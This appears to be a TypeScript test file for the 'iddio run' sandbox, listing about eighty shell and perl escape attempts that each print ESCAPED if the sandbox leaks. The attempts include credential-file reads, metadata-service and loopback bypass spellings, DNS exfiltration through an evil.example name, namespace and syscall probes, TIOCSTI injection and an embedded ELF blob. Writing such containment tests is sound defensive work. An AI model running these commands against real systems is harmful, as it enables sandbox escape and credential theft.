// The attempts of the red table of `iddio run`, as shell scripts: each prints ESCAPED when it got
// out. They run one after the other in one sandbox, so none may change what the next one finds.

import type { Sandbox } from "../../support/sandbox/sandbox.ts";

/** Things outside, to be reached. */
export interface Outside {
  /** A server on the machine's loopback, which answers with the canary. */
  readonly port: number;
  readonly consolePort: number;
  readonly daemonPid: number;
  /** The machine's own, by kind. */
  readonly namespaces: Readonly<Record<string, string>>;
}

/** One script. */
export type Attempt = (sandbox: Sandbox, outside: Outside) => string;

/** Stands in every secret outside. */
export const CANARY = "canary-secret-1f0c";
/** This program where a run shows it. */
const PROGRAM = "/run/iddio/iddio";

/** An i386 program that ends with 0 when it could make a user namespace. */
const ELF32 =
  "7f454c460101010000000000000000000200030001000000548004083400000000000000000000003400200001000000000000000100000000000000" +
  "00800408008004086f0000006f0000000500000000100000b836010000bb00000010cd8085c00f95c30fb6dbb801000000cd80";
/** Says ESCAPED when the command succeeds. */
const escapes = (command: string) => `if ${command} >/dev/null 2>&1; then echo ESCAPED; fi`;
/** Says ESCAPED when the output of the command holds a word. */
const says = (word: string, command: string) =>
  `if (${command}) 2>/dev/null | grep -q '${word}'; then echo ESCAPED; fi`;
/** Says ESCAPED when the output of the command holds the canary. */
const leaks = (command: string) => says(CANARY, command);
/** A system call by its number on x86_64 and aarch64, in perl; ESCAPED unless it fails with one of these errors. */
const call = (x64: number, arm64: number, args: string, held = "EPERM|ENOSYS") =>
  `perl -MErrno -e 'my $n = (\`uname -m\` =~ /x86_64/) ? ${x64} : ${arm64}; my $r = syscall($n, ${args}); my %e = reverse map { $_ => Errno->can($_)->() } qw(EPERM ENOSYS EAFNOSUPPORT EACCES EINVAL EFAULT); print "ESCAPED\\n" if $r >= 0 || ($e{$!+0} // "") !~ /^(?:${held})$/'`;
/** Connects a socket in perl; ESCAPED when it succeeds. */
const connects = (how: string) => `perl -MSocket -MIO::Socket -e '${how} and print "ESCAPED\\n"'`;

/** The attempts, by what is tried. */
export const ATTEMPTS: Readonly<Record<string, Attempt>> = {
  "direct TCP to a port that is not served": () =>
    connects('IO::Socket::INET->new(PeerAddr => "192.0.2.1", PeerPort => 22, Timeout => 3)'),
  "direct TCP to a served port ends at the bridge, not outside": () =>
    leaks(
      "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 3 perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(\"192.0.2.1:443\"); print $s <STDIN>; print <$s>'",
    ),
  "TCP to the machine's loopback": (_sandbox, { port }) =>
    connects(`IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, Timeout => 3)`),
  "the machine's loopback through the proxy": ({ proxyPort }, { port }) =>
    leaks(`curl -s -m 5 -p -x http://127.0.0.1:${proxyPort} http://127.0.0.1:${port}/`),
  "the machine's loopback by a name that means it": ({ proxyPort }, { port }) =>
    leaks(`curl -s -m 5 -p -x http://127.0.0.1:${proxyPort} http://localhost:${port}/`),
  "the machine's loopback by absolute form": ({ proxyPort }, { port }) =>
    leaks(`curl -s -m 5 -x http://127.0.0.1:${proxyPort} http://127.0.0.1:${port}/`),
  "the machine's loopback by other spellings": ({ proxyPort }, { port }) =>
    ["0.0.0.0", "0", "127.1", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "0x7f.1"]
      .map((host) =>
        leaks(`curl -s -m 5 -p --globoff -x http://127.0.0.1:${proxyPort} 'http://${host}:${port}/'`),
      )
      .join("\n"),
  "the cloud's metadata service": () => leaks("curl -s -m 5 http://169.254.169.254/latest/meta-data/"),
  "UDP to an address outside": () =>
    `perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "192.0.2.1", PeerPort => 443); $s->send("x"); select undef, undef, undef, 0.3; print "ESCAPED\\n" if defined $s->send("x") && $s->send("x")'`,
  "DNS to a server outside is answered by the sandbox's own resolver or not at all": () =>
    `perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "192.0.2.1", PeerPort => 53); $s->send(pack("H*", "000701000001000000000000") . "\\3foo\\3com\\0\\0\\1\\0\\1"); my $r; local $SIG{ALRM} = sub { exit }; alarm 1; $s->recv($r, 512); print "ESCAPED\\n" if length $r && $r !~ /\\xc6[\\x12\\x13]/s'`,
  "a name as a carrier of data: nothing is asked outside": () =>
    `for i in 1 2 3; do getent hosts secret-$i.evil.example | grep -qv '^198\\.1[89]\\.' && echo ESCAPED; done`,
  ICMP: () => connects("socket(my $s, PF_INET, SOCK_RAW, 1)"),
  "ICMP without raw sockets": () =>
    `perl -MSocket -e 'socket(my $s, PF_INET, SOCK_DGRAM, 1) or exit; my $to = sockaddr_in(0, inet_aton("192.0.2.1")); send($s, pack("C2 n3", 8, 0, 0xf7ff, 0, 0), 0, $to); my $r; local $SIG{ALRM} = sub { exit }; alarm 1; my $from = recv($s, $r, 512, 0); print "ESCAPED\\n" if 0'`,
  "IPv6 to an address outside": () =>
    connects(
      'socket(my $s, PF_INET6, SOCK_STREAM, 6) && connect($s, sockaddr_in6(22, inet_pton(AF_INET6, "2001:db8::1")))',
    ),
  "raw sockets": () => connects("socket(my $s, PF_INET, SOCK_RAW, 255)"),
  "packet sockets": () => connects("socket(my $s, 17, SOCK_RAW, 768)"),
  "vsock, to the hypervisor": () => connects("socket(my $s, 40, SOCK_STREAM, 0)"),
  "kernel crypto sockets": () => connects("socket(my $s, 38, SOCK_SEQPACKET, 0)"),
  bluetooth: () => connects("socket(my $s, 31, SOCK_RAW, 1)"),
  "netlink families beside routes": () =>
    [4, 9, 12, 15, 16].map((family) => connects(`socket(my $s, 16, SOCK_RAW, ${family})`)).join("\n"),
  "changing routes": () =>
    `${escapes("ip route add 10.0.0.0/8 dev lo")}\n${escapes("ip link add x type dummy")}`,
  "the docker socket": () => escapes("test -S /run/docker.sock -o -S /var/run/docker.sock"),
  "podman's and containerd's sockets": () =>
    escapes("test -e /run/podman -o -e /run/containerd -o -e $XDG_RUNTIME_DIR/podman"),
  "D-Bus": () =>
    `${escapes("test -e /run/dbus -o -e $XDG_RUNTIME_DIR/bus")}\n${escapes("busctl --user list")}`,
  "systemd-run --user": () => escapes("systemd-run --user --wait true"),
  "the display server": () =>
    `${escapes("ls /tmp/.X11-unix/X0")}\n${escapes("ls $XDG_RUNTIME_DIR/wayland-0")}`,
  "ssh-agent": ({ home }) =>
    `[ -n "$SSH_AUTH_SOCK" ] && echo ESCAPED\n${connects(`IO::Socket::UNIX->new("${home}/agent.sock")`)}`,
  "gpg-agent": ({ home }) => escapes(`ls ${home}/.gnupg/S.gpg-agent`),
  "a socket outside in the project": ({ project }) =>
    connects(`IO::Socket::UNIX->new("${project}/tool.sock")`),
  "abstract sockets outside": () =>
    connects('socket(my $s, PF_UNIX, SOCK_STREAM, 0) && connect($s, pack_sockaddr_un("\\0iddio-red-table"))'),
  "the daemon's control socket": ({ state }) => escapes(`test -e ${state}/iddio.sock`),
  "the run's own channel": ({ state }) => escapes(`ls ${state}/runs`),
  "the state directory: keys, policy, database, audit log": ({ state }) =>
    `for f in ca.key policy.yaml settings.yaml state.db audit.jsonl run-homes; do [ -e ${state}/$f ] && echo ESCAPED; done`,
  "a fake home with the real one behind it": ({ home, state }) =>
    `HOME=/tmp/fake; ${leaks(`cat ${home}/.ssh/id_ed25519 ${state}/ca.key`)}`,
  "secrets of the home directory": ({ home }) =>
    leaks(`cat ${home}/.ssh/id_ed25519 ${home}/.aws/credentials ${home}/.netrc ${home}/secret.txt`),
  "another project": ({ home }) => leaks(`cat ${home}/other/.env`),
  "/proc/<pid>/root of a process outside": () =>
    `for p in /proc/[0-9]*; do ls $p/root/ 2>/dev/null | grep -q canary-outside && echo ESCAPED; done`,
  "the environment and descriptors of processes outside": () =>
    `for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null | grep -q ${CANARY} && echo ESCAPED; ls -l $p/fd 2>/dev/null | grep -q iddio.sock && echo ESCAPED; done`,
  "seeing processes outside at all": () => `[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 12 ] && echo ESCAPED`,
  "the sandbox's own first process as a way around the filter": () =>
    `grep -q '^Seccomp:.2$' /proc/1/status || echo ESCAPED\ngrep -q '^CapEff:.0000000000000000$' /proc/1/status || echo ESCAPED`,
  "signals to processes outside by number": () =>
    `for p in $(seq 300 2000); do kill -0 $p 2>/dev/null && echo ESCAPED; done`,
  io_uring: () => call(425, 425, "8, 0", "ENOSYS"),
  "clone3, whose flags no filter can read": () => call(435, 435, "0, 0", "ENOSYS"),
  "a user namespace by unshare": () => `${escapes("unshare -U true")}\n${call(272, 97, "0x10000000")}`,
  "a user namespace by clone": () => call(56, 220, "0x10000011, 0, 0, 0, 0"),
  "a mount namespace": () => call(272, 97, "0x00020000"),
  "entering another namespace": () => call(308, 268, "0, 0"),
  "nested bubblewrap": () => escapes("bwrap --unshare-user --dev-bind / / true"),
  mount: () => `${escapes("mount -t tmpfs none /mnt")}\n${call(165, 40, "0, 0, 0, 0, 0")}`,
  "umount of a mask": ({ state }) => `${escapes(`umount ${state}`)}\n${call(166, 39, "0, 0")}`,
  "the new mount calls": () =>
    [call(428, 428, "0, 0, 0"), call(430, 430, "0, 0"), call(429, 429, "0, 0, 0, 0, 0")].join("\n"),
  chroot: () => call(161, 51, "0"),
  "file handles past the mounts": () => call(304, 265, "0, 0, 0"),
  keyrings: () =>
    [call(250, 219, "0, -3, 0"), call(248, 217, "0, 0, 0, 0, 0"), call(249, 218, "0, 0, 0, 0")].join("\n"),
  bpf: () => call(321, 280, "0, 0, 0"),
  "performance events": () => call(298, 241, "0, 0, 0, 0, 0"),
  userfaultfd: () => call(323, 282, "0"),
  "typing into the terminal by TIOCSTI": () =>
    `perl -e 'for my $n (0x5412, 0x541c, 0x100005412, 0xffffffff00005412) { my $c = "x"; ioctl(STDOUT, $n, $c) and print "ESCAPED\\n"; $! == 1 or print "ESCAPED $!\\n" }'`,
  "setuid programs": () =>
    `grep -q '^NoNewPrivs:.1$' /proc/self/status || echo ESCAPED\n${escapes("sudo -n true")}\n${escapes("su -c true")}`,
  capabilities: () =>
    `grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status | grep -qv '0000000000000000$' && echo ESCAPED`,
  "writing the system": () =>
    `for d in /etc /usr /usr/bin /bin /var /opt /; do ${escapes('touch "$d/iddio-red"')}; done`,
  "kernel settings": () =>
    `${escapes("sh -c 'echo 1 > /proc/sys/kernel/yama/ptrace_scope'")}\n${escapes("sh -c 'echo x > /proc/sysrq-trigger'")}`,
  "filling the memory by /tmp": () =>
    `[ "$(df -Pk /tmp | awk 'NR == 2 { print $2 }')" -le "$(awk '/MemTotal/ { print int($2 / 2) + 1048576 }' /proc/meminfo)" ] || echo ESCAPED`,
  "control groups": () => escapes("mkdir /sys/fs/cgroup/iddio-red"),
  "devices of the machine": () =>
    `for d in /dev/sd* /dev/vd* /dev/nvme* /dev/mem /dev/kmsg /dev/kvm /dev/fuse /dev/net/tun; do [ -e "$d" ] && echo ESCAPED; done`,
  "LD_PRELOAD from outside": () =>
    `env | grep -E '^(LD_|BUN_|NODE_OPTIONS|BASH_ENV|PYTHONSTARTUP)' && echo ESCAPED`,
  "a descriptor that was open at the start": () => `[ -e /proc/self/fd/9 ] && echo ESCAPED`,
  "a bridge of its own with the daemon": () => escapes(`${PROGRAM} run-bridge`),
  "a second gateway": ({ home }) =>
    `HOME=/tmp/h IDDIO_HOME=/tmp/h timeout 3 ${PROGRAM} gateway >/dev/null 2>&1 &\nsleep 1; ${leaks(`HTTPS_PROXY=http://127.0.0.1:9443 curl -s -m 2 https://192.0.2.1/ ${home}`)}; kill %1 2>/dev/null`,
  "approving by the command line": ({ state }) =>
    [
      escapes(`IDDIO_HOME=${state} ${PROGRAM} approval list`),
      escapes(`IDDIO_HOME=${state} ${PROGRAM} run ls`),
      escapes(`IDDIO_HOME=${state} setsid ${PROGRAM} approval list`),
    ].join("\n"),
  "origin-form requests to the proxy: no control API there": ({ proxyPort }) =>
    `for path in /v1/approvals /v1/status /v1/runs /v1/settings; do ${escapes(`curl -sf -m 5 http://127.0.0.1:${proxyPort}$path`)}; done`,
  "a run inside a run": () =>
    [escapes(`${PROGRAM} run -- /bin/true`), escapes(`${PROGRAM} run --best-effort -- /bin/true`)].join("\n"),
  "the system's calls of a 32-bit program": () =>
    `perl -e 'print pack("H*", "${ELF32}")' > /tmp/elf32; chmod +x /tmp/elf32\n${escapes("/tmp/elf32")}`,
  "the system's calls of the x32 convention": () => `(${call(0x40000110, 97, "0x10000000")}) 2>/dev/null`,
  "every other family of sockets": () =>
    `perl -MSocket -e 'for my $f (3 .. 60) { next if $f == 10 || $f == 16; for my $t (1, 2, 3, 5) { socket(my $s, $f, $t, 0) and print "ESCAPED $f $t\n" } }'`,
  "other transports: SCTP, DCCP, MPTCP": () =>
    `perl -MSocket -e 'for my $p (132, 33, 262) { for my $t (1, 5, 6) { socket(my $s, PF_INET, $t, $p) or next; connect($s, sockaddr_in(22, inet_aton("192.0.2.1"))) and print "ESCAPED $p\n" } }'`,
  "the metadata service by other spellings": () =>
    [
      "2852039166",
      "0xa9fea9fe",
      "169.254.43518",
      "[::ffff:169.254.169.254]",
      "[fd00:ec2::254]",
      "100.100.100.200",
    ]
      .map((host) => says("hello", `curl -s -m 5 -p --globoff -x http://127.0.0.1:9443 'http://${host}/'`))
      .join("\n"),
  "the metadata service by an IPv4 address in an IPv6 one": () =>
    says(
      "hello",
      `timeout 5 perl -MSocket=:all -e 'socket(my $s, PF_INET6, SOCK_STREAM, 6); connect($s, pack_sockaddr_in6(80, inet_pton(AF_INET6, "::ffff:169.254.169.254"))) or exit; syswrite $s, "GET / HTTP/1.0\\r\\n\\r\\n"; print <$s>'`,
    ),
  "addresses of names that nobody asked for": () =>
    says("hello", "curl -s -m 5 http://198.19.9.9/ http://198.18.200.1/"),
  "the machine's loopback by names below localhost": (_sandbox, { port }) =>
    ["localhost.", "LOCALHOST", "a.localhost", "ip6-localhost"]
      .map((host) =>
        leaks(
          `curl -s -m 5 -p -x http://127.0.0.1:9443 http://${host}:${port}/; curl -s -m 5 http://${host}:${port}/`,
        ),
      )
      .join("\n"),
  "the proxy through the proxy": ({ proxyPort }) =>
    [proxyPort, 9443]
      .map((each) =>
        escapes(`curl -sf -m 5 -p -x http://127.0.0.1:9443 http://127.0.0.1:${each}/v1/approvals`),
      )
      .join("\n"),
  "the console by its port": (_sandbox, { consolePort }) =>
    ["", "-x http://127.0.0.1:9443", "-p -x http://127.0.0.1:9443"]
      .flatMap((how) => [
        says("<[hH!]", `curl -s -m 5 ${how} http://localhost:${consolePort}/`),
        says("<[hH!]", `curl -s -m 5 ${how} http://127.0.0.1:${consolePort}/`),
      ])
      .join("\n"),
  "the console's launch page with its token": ({ state }) =>
    `${leaks(`cat ${state}/console-red.html`)}\n${escapes(`ls ${state}/console-red.html`)}`,
  "descriptors of the sandbox's first process": () =>
    `perl -e 'my $p = syscall(434, 1, 0); for my $n (0 .. 63) { my $r = syscall(438, $p, $n, 0); next if $r < 0; my $l = readlink "/proc/self/fd/$r"; print "ESCAPED $l\n" if $l =~ /socket|^/(?!dev/)/ }'`,
  "a handle of a process outside": (_sandbox, { daemonPid }) =>
    `perl -e 'my $p = syscall(434, ${daemonPid}, 0); print "ESCAPED\n" if $p >= 0 && syscall(438, $p, 0, 0) >= 0'`,
  "a program in memory, without a file": () =>
    `perl -MIO::Handle -e 'my $n = (\`uname -m\` =~ /x86_64/) ? 319 : 279; my $name = "x"; my $f = syscall($n, $name, 0); open(my $in, "<", "/bin/cat"); binmode $in; local $/; open(my $out, ">&=", $f); binmode $out; print $out <$in>; $out->flush; exec { "/proc/self/fd/$f" } "cat", "/proc/self/status"' | grep -E '^(Seccomp|CapEff):' | grep -qvE ':.(2|0000000000000000)$' && echo ESCAPED`,
  "files behind the root and the working folder of processes": ({ home, project }) =>
    leaks(
      `cat /proc/1/root${home}/secret.txt /proc/self/root${home}/secret.txt /proc/1/cwd/../secret.txt ${project}/../secret.txt ${project}/.//../.ssh/id_ed25519`,
    ),
  "what the sandbox was built from": () => escapes("ls /oldroot/. /newroot/."),
  "namespaces of the machine": (_sandbox, { namespaces }) =>
    Object.entries(namespaces)
      .map(([kind, own]) => `[ "$(readlink /proc/self/ns/${kind})" = "${own}" ] && echo ESCAPED ${kind}`)
      .join("\n"),
  "programs of the desktop": () =>
    [
      escapes("notify-send red"),
      escapes("gdbus call --session -d org.freedesktop.Notifications -o / -m x.y"),
      escapes(
        "dbus-send --session --dest=org.freedesktop.DBus --print-reply / org.freedesktop.DBus.ListNames",
      ),
      escapes("xdg-open http://192.0.2.1/"),
    ].join("\n"),
  "kernel interfaces by files": () =>
    [
      "/proc/sys/kernel/core_pattern",
      "/proc/sys/kernel/modprobe",
      "/proc/sys/fs/binfmt_misc/register",
      "/proc/sys/net/ipv4/ip_forward",
      "/proc/1/oom_score_adj",
      "/sys/kernel/uevent_helper",
      "/sys/fs/bpf/x",
      "/sys/kernel/debug/x",
    ]
      .map((path) => escapes(`sh -c 'echo -1000 > ${path}'`))
      .join("\n"),
  "more processes than a person's machine bears": () =>
    `n=$(bash -c 'ulimit -Hu'); [ "$n" != unlimited ] && [ "$n" -le 8192 ] || echo ESCAPED`,
  "priority over the person's programs": () =>
    `${escapes("nice -n -5 sh -c '[ \"$(nice)\" -lt 0 ]'")}\n${escapes("chrt -f 10 true")}`,
  "another name for the run": () =>
    `IDDIO_RUN=ci-admin curl -sS -m 5 -o /dev/null http://renamed.seen.example/`,
};
